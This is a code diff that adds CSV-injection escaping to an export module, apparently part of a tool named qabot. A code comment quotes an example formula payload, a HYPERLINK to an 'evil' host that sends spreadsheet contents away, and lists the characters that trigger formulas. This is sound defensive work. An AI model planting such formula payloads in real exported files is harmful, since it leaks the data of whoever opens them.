@@ -7,6 +7,9 @@ build its ``--format`` choices at import time and ``qabot --help`` stays instant
 
 ``sft``/``kto``/``dpo`` rows are TRL's conversational form: prompts are ``[{"role": "user", ...}]`` and
 answers ``[{"role": "assistant", ...}]``, so TRL applies the checkpoint's chat template (qabot's prompt).
+
+``csv`` is what admins open in a spreadsheet, so its cells are made safe to open there
+(``spreadsheet_cell``); the other formats keep every text exact.
 """
 
 from __future__ import annotations
@@ -26,12 +29,26 @@ SUFFIXES = {
 }
 FORMATS = tuple(SUFFIXES)
 
+# OWASP "CSV Injection": Excel, LibreOffice and Google Sheets run a cell that starts with one of these as
+# a formula (=HYPERLINK("http://evil", "click") sends what the sheet holds away; DDE runs commands). A
+# member's answer or a question is anyone's text, so a csv cell never starts with one.
+FORMULA_STARTS = ("=", "+", "-", "@")
+FORMULA_CONTROLS = ("\t", "\r")  # also start a formula once a spreadsheet trims them off the cell
+
 
 def check_format(fmt: str) -> str:
     """``fmt`` itself, or ``ValueError`` naming the formats there are."""
     if fmt not in SUFFIXES:
         raise ValueError(f"unknown export format {fmt!r}; choose one of {', '.join(FORMATS)}")
     return fmt
+
+
+def spreadsheet_cell(text: str) -> str:
+    """``text`` as a csv cell a spreadsheet shows and never runs: a ``'`` before one that would start a
+    formula (OWASP's escape; Excel does not show it), also after leading spaces, which some trim."""
+    if text.startswith(FORMULA_CONTROLS) or text.lstrip().startswith(FORMULA_STARTS):
+        return "'" + text
+    return text
 
 
 def default_file_name(fmt: str) -> str:
